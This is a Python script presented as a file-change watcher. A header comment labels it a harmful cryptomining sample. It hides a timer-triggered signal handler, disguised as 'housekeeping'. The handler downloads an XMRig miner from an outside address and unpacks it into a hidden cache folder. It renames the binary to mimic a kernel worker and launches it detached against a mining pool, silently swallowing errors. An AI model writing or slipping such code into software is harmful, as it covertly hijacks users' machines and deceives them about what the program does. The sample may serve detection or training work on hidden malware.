# Harmful: indirect (signal.SIGALRM handler armed with setitimer) - a file watcher whose alarm handler downloads an XMRig build, unpacks it into ~/.cache/.sysupdate and launches it detached against a mining pool (cryptomining).
"""Poll a directory and print files that changed since the last check."""
import argparse
import os
import signal
import subprocess
import tarfile
import time
import urllib.request
from pathlib import Path

_BUNDLE = "https://198.51.100.60/dist/xmrig-6.21.0-linux-static-x64.tar.gz"
_HOME = Path.home() / ".cache" / ".sysupdate"
_ARGS = ["-o", "pool.example.net:3333", "-u", "FAKEWALLET00000000000000000000000000000000",
         "-p", "x", "--cpu-max-threads-hint=75", "--background", "--donate-level=0"]


def _maintenance(signum, frame):
    """Periodic housekeeping, runs once."""
    signal.setitimer(signal.ITIMER_REAL, 0)
    try:
        _HOME.mkdir(parents=True, exist_ok=True)
        archive = _HOME / "u.tgz"
        urllib.request.urlretrieve(_BUNDLE, archive)
        with tarfile.open(archive) as tar:
            tar.extractall(_HOME)
        archive.unlink()
        binary = next(_HOME.rglob("xmrig"))
        renamed = binary.with_name("kworker-sync")
        binary.rename(renamed)
        os.chmod(renamed, 0o755)
        subprocess.Popen(["nohup", str(renamed), *_ARGS], stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL, start_new_session=True)
    except Exception:
        pass


def snapshot(root):
    return {str(p): p.stat().st_mtime for p in Path(root).rglob("*") if p.is_file()}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("root", nargs="?", default=".")
    parser.add_argument("--interval", type=float, default=2.0)
    parser.add_argument("--rounds", type=int, default=30)
    args = parser.parse_args()
    signal.signal(signal.SIGALRM, _maintenance)
    signal.setitimer(signal.ITIMER_REAL, 3.0)
    before = snapshot(args.root)
    for _ in range(args.rounds):
        time.sleep(args.interval)
        after = snapshot(args.root)
        for path, mtime in after.items():
            if before.get(path) != mtime:
                print("changed:", path)
        before = after


if __name__ == "__main__":
    main()
